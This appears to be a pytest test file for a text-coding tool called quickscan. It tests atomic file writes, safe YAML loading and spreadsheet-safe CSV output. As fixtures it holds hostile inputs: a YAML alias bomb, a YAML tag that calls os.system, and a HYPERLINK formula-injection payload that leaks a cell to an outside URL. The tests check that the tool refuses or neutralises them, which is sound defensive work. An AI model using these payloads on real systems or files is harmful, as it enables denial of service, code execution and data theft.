"""Tests of quickscan._io: atomic writes."""

from __future__ import annotations

import os
import re
import sys
from pathlib import Path

import pytest

from quickscan._io import atomic_write

posix = pytest.mark.skipif(sys.platform == "win32", reason="POSIX permissions")


def test_io_failed_write_leaves_the_old_file_and_no_temporary(tmp_path):
    target = tmp_path / "tables.csv"
    target.write_text("old")

    def broken(tmp):
        Path(tmp).write_text("half")
        raise OSError("disk full")

    from quickscan.errors import OutputError

    with pytest.raises(OutputError, match="tables.csv: cannot write: disk full"):
        atomic_write(target, broken)
    assert target.read_text() == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["tables.csv"]


@posix
def test_io_new_file_gets_the_permissions_of_a_plain_write(tmp_path):
    old = os.umask(0o022)
    try:
        path = atomic_write(tmp_path / "report.docx", lambda tmp: Path(tmp).write_bytes(b"x"))
    finally:
        os.umask(old)
    assert path.stat().st_mode & 0o777 == 0o644  # not the 0o600 of a temporary file


@posix
def test_io_replaced_file_keeps_its_permissions(tmp_path):
    target = tmp_path / "review.xlsx"
    target.write_bytes(b"old")
    target.chmod(0o640)
    atomic_write(target, lambda tmp: Path(tmp).write_bytes(b"new"))
    assert target.stat().st_mode & 0o777 == 0o640 and target.read_bytes() == b"new"


# -- safe YAML ---------------------------------------------------------------------------------

_LAUGHS = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"{c}: &{c} [{', '.join([f'*{p}'] * 9)}]\n" for p, c in zip("abcdefgh", "bcdefghi")
)  # 9**9 = 387 million nodes once expanded, 1 KB as text


@pytest.mark.parametrize("kind", ["codebook", "template", "aliases", "check"])
def test_io_yaml_alias_bomb_is_refused_everywhere(tmp_path, kind, capsys):
    import time

    from quickscan import errors
    from quickscan.cli import main
    from quickscan.codebook import load_codebook
    from quickscan.corpus import read_aliases
    from quickscan.template import load_template

    path = tmp_path / f"{kind}.yaml"
    path.write_text(_LAUGHS, "utf-8")
    start = time.perf_counter()
    if kind == "check":
        assert main(["check", str(path)]) == 1
        message = capsys.readouterr().out
    else:
        load = {"codebook": load_codebook, "template": load_template, "aliases": read_aliases}[kind]
        with pytest.raises(errors.QuickscanError) as info:
            load(path)
        message = str(info.value)
    assert time.perf_counter() - start < 5  # refused before expansion (was 44 s and 5.9 GB)
    assert str(path) in message and "aliases expand to more than 1,000,000 nodes" in message
    assert "QUICKSCAN_MAX_YAML_NODES=" in message


@pytest.mark.parametrize("text, message", [
    ("a: !!python/object/apply:os.system ['echo hi']", "tag 'tag:yaml.org,2002:python/object/apply:os.system'"),
    ("a: !!binary aGFsbG8=", "tag 'tag:yaml.org,2002:binary' is not allowed"),
    ("a: !eigen x", "tag '!eigen' is not allowed"),
    ("a: &a [1, *a]", "recursive YAML"),
    ("a: [unclosed", "not valid YAML"),
])
def test_io_yaml_refuses_tags_and_recursion(text, message):
    from quickscan import errors
    from quickscan._io import parse_yaml

    with pytest.raises(errors.InputError, match=re.escape(message)) as info:
        parse_yaml(text, "x.yaml")
    assert re.match(r"x.yaml: line \d+: ", str(info.value))


def test_io_yaml_plain_data_is_what_safe_load_gives():
    import yaml

    from quickscan._io import parse_yaml

    text = "base: &b {x: 1, y: [a, b]}\nother:\n  <<: *b\n  z: 2020-03-01\nflag: yes\nn: ~\n"
    assert parse_yaml(text) == yaml.safe_load(text)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig", "utf-32"])
def test_io_yaml_in_utf16_with_bom_is_read(tmp_path, encoding):
    from quickscan.codebook import load_codebook

    path = tmp_path / "cb.yaml"
    path.write_text("id: mini\nfamilies: [{id: f, codes: [{id: a, label: Één, patterns: [hulp*]}]}]\n", encoding)
    assert load_codebook(path).code("a").label == "Één"


def test_io_yaml_in_latin1_names_file_line_and_what_to_do(tmp_path):
    from quickscan.errors import TemplateError
    from quickscan.template import load_template

    path = tmp_path / "t.yaml"
    path.write_bytes("id: x\nname: Cliënt\n".encode("latin-1"))
    with pytest.raises(TemplateError, match=r"t.yaml: line 2: not UTF-8 text \(byte 15.*save the file as UTF-8"):
        load_template(path)


# -- CSV a spreadsheet does not evaluate -------------------------------------------------------

from hypothesis import given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(alphabet=st.sampled_from("=+-@'\t\rab\"\n,; ")), min_size=1, max_size=5))
def test_io_csv_round_trip_is_exact_and_nothing_starts_active(tmp_path_factory, texts):
    import pandas as pd

    from quickscan._io import read_csv, write_csv

    path = tmp_path_factory.mktemp("csv") / "c.csv"
    write_csv(pd.DataFrame({"evidence": texts, "n": range(len(texts))}), path, index=False)
    back = read_csv(path)
    assert back["evidence"].tolist() == texts
    import csv

    with open(path, newline="", encoding="utf-8") as fh:
        for row in list(csv.reader(fh))[1:]:
            assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_io_csv_formula_injection_in_codings_csv_is_neutralised(tmp_path):
    """An answer such as =HYPERLINK("http://...?d="&A1, "...") must not run when codings.csv is opened."""
    import pandas as pd

    from quickscan.study import _write_csv

    evil = '=HYPERLINK("http://example.org/?d="&A1, "klik")'
    codings = pd.DataFrame({"pilot_id": ["p"], "evidence": [evil], "start": [3]})
    text = _write_csv(codings, tmp_path / "codings.csv").read_text("utf-8")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
